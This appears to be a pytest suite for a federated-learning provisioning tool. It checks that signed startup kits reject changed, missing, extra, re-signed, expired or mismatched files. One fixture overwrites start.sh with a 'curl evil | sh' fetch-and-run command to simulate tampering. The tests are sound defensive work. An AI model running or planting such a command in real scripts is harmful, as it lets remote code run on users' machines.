"""Signed startup kits: verify_kit names the file that changed, is missing or is extra."""

from __future__ import annotations

import base64
import datetime as dt
import hashlib
import json
import shutil
from pathlib import Path

import pytest

from provisioning import KitError, load_kit, parse_project, provision, verify_kit
from provisioning import certs
from provisioning.kit import sign_startup

PROJECT = """\
name: demo
participants:
  - {type: server, name: localhost, fl_port: 8002, admin_port: 8003}
  - {type: client, name: site-1, org: org-a}
  - {type: admin, name: ann@org-a.com, org: org-a, role: member}
"""


@pytest.fixture(scope="module")
def pristine(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("kits") / "prod"
    provision(parse_project(PROJECT), out)
    other = tmp_path_factory.mktemp("other") / "prod"
    provision(parse_project(PROJECT), other)
    (out / "_other").symlink_to(other)
    return out


@pytest.fixture()
def prod(pristine, tmp_path) -> Path:
    out = tmp_path / "prod"
    shutil.copytree(pristine, out, symlinks=True)
    return out


def test_pristine_kits_verify(prod):
    for name in ("localhost", "site-1", "ann@org-a.com"):
        files = verify_kit(prod / name)
        assert "rootCA.pem" in files and "signature.json" not in files
        assert verify_kit(prod / name / "startup") == files  # the startup/ folder works too
    assert set(verify_kit(prod / "site-1")) == {"fed_client.json", "client.crt", "client.key",
                                                "rootCA.pem", "start.sh", "stop.sh"}


def test_one_byte_changed_in_config(prod):
    cfg = prod / "site-1" / "startup" / "fed_client.json"
    data = bytearray(cfg.read_bytes())
    i = data.index(b"8002")
    data[i + 3] = ord("3")  # the server's port 8002 -> 8003
    cfg.write_bytes(bytes(data))
    with pytest.raises(KitError) as e:
        verify_kit(prod / "site-1")
    assert e.value.problems == [
        ("fed_client.json", "changed (its sha256 differs from signature.json)")]
    assert "fed_client.json: changed" in str(e.value) and "Refusing" in str(e.value)
    with pytest.raises(KitError, match="fed_client.json"):
        load_kit(prod / "site-1")


def test_changed_script_and_key(prod):
    (prod / "localhost" / "startup" / "start.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    with pytest.raises(KitError) as e:
        verify_kit(prod / "localhost")
    assert e.value.files == ["start.sh"]


def test_missing_file(prod):
    (prod / "site-1" / "startup" / "client.key").unlink()
    with pytest.raises(KitError) as e:
        verify_kit(prod / "site-1")
    assert e.value.problems == [("client.key", "missing")]
    assert "client.key: missing" in str(e.value)


def test_extra_file(prod):
    (prod / "ann@org-a.com" / "startup" / "notes.txt").write_text("hi")
    with pytest.raises(KitError) as e:
        verify_kit(prod / "ann@org-a.com")
    assert e.value.files == ["notes.txt"] and "extra" in str(e.value)


def test_several_problems_are_all_named(prod):
    st = prod / "site-1" / "startup"
    (st / "stop.sh").unlink()
    (st / "rootCA.pem").write_bytes((prod / "_other" / "ca" / "rootCA.pem").read_bytes())
    (st / "x").mkdir()
    with pytest.raises(KitError) as e:
        verify_kit(prod / "site-1")
    assert e.value.files == ["rootCA.pem", "stop.sh", "x"]


def test_missing_signature(prod):
    (prod / "site-1" / "startup" / "signature.json").unlink()
    with pytest.raises(KitError, match="signature.json is missing"):
        verify_kit(prod / "site-1")


def test_rewritten_manifest_fails_the_signature(prod):
    """Changing a file and its digest in signature.json is caught by the CA's signature."""
    st = prod / "site-1" / "startup"
    (st / "fed_client.json").write_text('{"name": "site-1", "server": "evil:1"}')
    sig = json.loads((st / "signature.json").read_text())
    sig["files"]["fed_client.json"] = hashlib.sha256(
        (st / "fed_client.json").read_bytes()).hexdigest()
    (st / "signature.json").write_text(json.dumps(sig))
    with pytest.raises(KitError) as e:
        verify_kit(prod / "site-1")
    assert e.value.files == ["signature.json"] and "invalid signature" in str(e.value)


def test_kit_signed_by_another_ca(prod):
    """A manifest re-signed with another project's CA key does not verify with this rootCA."""
    st = prod / "site-1" / "startup"
    sign_startup(st, certs.load_key(prod / "_other" / "ca" / "rootCA.key"))
    with pytest.raises(KitError, match="invalid signature"):
        verify_kit(prod / "site-1")


def test_garbled_manifest(prod):
    p = prod / "site-1" / "startup" / "signature.json"
    sig = json.loads(p.read_text())
    sig["signature"] = base64.b64encode(b"nope").decode()
    p.write_text(json.dumps(sig))
    with pytest.raises(KitError, match="invalid signature"):
        verify_kit(prod / "site-1")
    p.write_text("{not json")
    with pytest.raises(KitError, match="unreadable manifest"):
        verify_kit(prod / "site-1")


def test_not_a_kit(tmp_path):
    with pytest.raises(KitError, match="not a startup kit"):
        verify_kit(tmp_path)


def test_load_kit(prod):
    kit = load_kit(prod / "site-1")
    assert (kit.type, kit.name, kit.org, kit.role) == ("client", "site-1", "org-a", "client")
    assert kit.config["server"] == "localhost:8002"
    assert kit.root == prod / "site-1" and kit.local == prod / "site-1" / "local"
    assert kit.cert_path.name == "client.crt" and kit.key_path.name == "client.key"
    assert kit.ca_path.read_bytes() == (prod / "ca" / "rootCA.pem").read_bytes()
    server = load_kit(prod / "localhost" / "startup")
    assert (server.type, server.role, server.config["admin_port"]) == ("server", "server", 8003)
    assert server.cert_path.name == "server.crt"
    admin = load_kit(prod / "ann@org-a.com")
    assert (admin.type, admin.name, admin.org, admin.role) == ("admin", "ann@org-a.com", "org-a",
                                                               "member")
    assert server.server_credentials() is not None and admin.channel_credentials() is not None


def test_load_kit_checks_expiry(prod):
    """A kit whose certificate expired is refused (re-signed so only the expiry is wrong)."""
    st = prod / "site-1" / "startup"
    ca_key = certs.load_key(prod / "ca" / "rootCA.key")
    ca = certs.load_cert(prod / "ca" / "rootCA.pem")
    key = certs.load_key(st / "client.key")
    past = dt.datetime.now(dt.timezone.utc) - dt.timedelta(days=2)
    cert = certs.issue_cert(ca, ca_key, key.public_key(), cn="site-1", org="org-a", ou="client",
                            not_before=past - dt.timedelta(days=10), not_after=past)
    (st / "client.crt").write_bytes(certs.cert_pem(cert))
    sign_startup(st, ca_key)
    with pytest.raises(KitError, match="expired"):
        load_kit(prod / "site-1")
    assert load_kit(prod / "site-1", check_expiry=False).name == "site-1"


def test_load_kit_checks_the_certificate_matches(prod):
    """Even a correctly signed kit is refused when its cert is for someone else."""
    st = prod / "site-1" / "startup"
    ca_key = certs.load_key(prod / "ca" / "rootCA.key")
    shutil.copy(prod / "ann@org-a.com" / "startup" / "client.crt", st / "client.crt")
    sign_startup(st, ca_key)
    with pytest.raises(KitError, match="client.key: does not belong"):
        load_kit(prod / "site-1")
    shutil.copy(prod / "ann@org-a.com" / "startup" / "client.key", st / "client.key")
    sign_startup(st, ca_key)
    with pytest.raises(KitError, match="do not match client.crt"):
        load_kit(prod / "site-1")
